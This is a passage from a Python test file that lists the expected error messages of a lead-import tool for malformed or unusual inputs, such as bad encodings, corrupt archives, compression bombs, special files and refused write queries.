        'source error: sqlite:///{dir}/crm.db query: query failed: DatabaseError: not authorized (the source '
        'is opened read-only: only reads run)'),
    'SQLite query that inserts': (
        'source error: sqlite:///{dir}/crm.db query: query failed: DatabaseError: not authorized (the source '
        'is opened read-only: only reads run)'),
    'UTF-16 BE without BOM': (
        'source error: {dir}/leads.csv: looks like UTF-16 without a byte-order mark; set the encoding to '
        'utf-16-be'),
    'UTF-16 LE without BOM': (
        'source error: {dir}/leads.csv: looks like UTF-16 without a byte-order mark; set the encoding to '
        'utf-16-le'),
    'a 64 MiB line in a small zip': (
        'source error: {dir}/leads.zip, row 1: a line longer than 16,777,216 characters; '
        'LEADFLOW_MAX_RECORD_CHARS raises the bound'),
    'a bound that is not a number': (
        "source error: LEADFLOW_MAX_FIELD_CHARS: must be a positive whole number, not 'lots'"),
    'a directory': (
        '{dir}: not a regular file (a folder)'),
    'a link to /dev/zero': (
        'source error: {dir}/leads.csv: not a regular file (a character device)'),
    'a named pipe': (
        'source error: {dir}/leads.csv: not a regular file (a named pipe)'),
    'a socket': (
        'source error: {dir}/leads.csv: not a regular file (a socket)'),
    'binary data': (
        'source error: {dir}/leads.csv: binary data, not a text file'),
    'compression ratio over its bound': (
        '{dir}/leads.csv.gz: unpacks to more than 67,108,864 bytes (a compression bomb?); '
        'LEADFLOW_MAX_COMPRESSION_RATIO raises the bound'),
    'corrupt Parquet': (
        'source error: {dir}/leads.parquet: not a valid Parquet file'),
    'corrupt zip': (
        '{dir}/leads.zip: not a valid zip file'),
    'do-not-call file missing': (
        "cannot read do-not-call file {dir}/nope.txt: [Errno 2] No such file or directory: '{dir}/nope.txt'"),
    'empty file': (
        'source error: {dir}/leads.csv: no data rows'),
    'failing SQL query': (
        'source error: sqlite:///{dir}/crm.db query: query failed: OperationalError: no such column: nope'),
    'field over its bound': (
        'source error: {dir}/leads.csv, row 2: malformed CSV (field larger than field limit (1000)) at line '
        '3; LEADFLOW_MAX_FIELD_CHARS raises the bound'),
    'header only': (
        '{dir}/leads.csv: no data rows'),
    'ledger is a folder': (
        'the ledger {dir}/l.db is not a regular file'),
    'ledger is an empty file': (
        'the ledger {dir}/l.db is an empty file (0 bytes): refused, not replaced; restore it, or remove it '
        'to start a new ledger'),
    'ledger is damaged': (
        'the ledger {dir}/l.db is damaged (database disk image is malformed): refused, not replaced; restore '
        'it from a backup'),
    'ledger is not a database': (
        'the ledger {dir}/l.db is damaged (file is not a database): refused, not replaced; restore it from a '
        'backup'),
    'mapping file is a named pipe': (
        'source error: {dir}/map.yaml: mapping file is not a regular file (a named pipe)'),
    'mapping is not YAML': (
        "{dir}/map.yaml: invalid mapping file: expected ',' or ']', but got '<stream end>' (line 2, column 1)"),
    'mapping names a missing column': (
        "source error: {dir}/leads.csv, column 'Mobile': mapped column (lead field phone) not found; "
        "available: 'Lead ID', 'First Name', 'Last Name', 'Phone', 'Email'"),
    'mapping to an unknown field': (
        '{dir}/map.yaml: invalid mapping file: fields: Value error, unknown lead field(s) telephone; known: '
        'external_id, phone, phones, first_name, last_name, email, address1, address2, city, state, zip, '
        'country, timezone, priority'),
    'markup in an option': (
        'invalid options: delimiter: Value error, delimiter must be a single character'),
    'markup in the path': (
        'source error: {dir}/[/b].csv: no data rows'),
    'missing file': (
        'source error: {dir}/nope.csv: file not found'),
    'missing table': (
        'sqlite:///{dir}/crm.db table no_such_table: query failed: OperationalError: no such table: '
        'no_such_table'),
    'only whitespace': (
        'source error: {dir}/leads.csv: no phone column (a header such as Phone, Mobile, Cell or Telephone, '
        "or a mapping file naming one); columns: 'column_1'"),
    'outcomes file under a file': (
        'outcomes file {dir}/afile: a file is in the way of the folder'),
    'output dir cannot be made': (
        'output dir /proc/leadflow-out: cannot write there (No such file or directory)'),
    'output dir is a file': (
        'output dir {dir}/afile: not a folder'),
    'ragged row': (
        'source error: {dir}/leads.csv, row 1101: expected 5 fields, found 6 (line 1102)'),
    'report is a folder': (
        'report {dir}: a folder, not a file'),
    'truncated gzip': (
        'source error: {dir}/leads.csv.gz: cannot read: EOFError'),
    'two-character delimiter': (
        'invalid options: delimiter: Value error, delimiter must be a single character'),
    'unclosed quote': (
        '{dir}/leads.csv, row 1: malformed CSV (unexpected end of data) at line 3'),
    'unknown encoding': (
        "{dir}/leads.csv: unknown encoding 'klingon'"),
    'unknown extension': (
        "{dir}/leads.xyz: unknown format '.xyz'; set format to one of csv, tsv, excel, parquet, json, jsonl"),
    'unpacked size over its bound': (
        'source error: {dir}/leads.csv.gz: unpacks to more than 100,000 bytes (a compression bomb?); '
        'LEADFLOW_MAX_DECOMPRESSED_BYTES raises the bound'),
    'wrong delimiter given': (
        'source error: {dir}/leads.csv: no phone column (a header such as Phone, Mobile, Cell or Telephone, '
        "or a mapping file naming one); columns: 'Lead ID;First Name;Last Name;Phone;Email'"),
    'zip with no members': (
        '{dir}/leads.zip: a .zip source must hold exactly one file, found 0'),
    'zip with two members': (
        'source error: {dir}/leads.zip: a .zip source must hold exactly one file, found 2'),
}
CASES = [replace(c, expect=replace(c.expect, text=TEXTS[c.name])) if c.name in TEXTS else c for c in CASES]
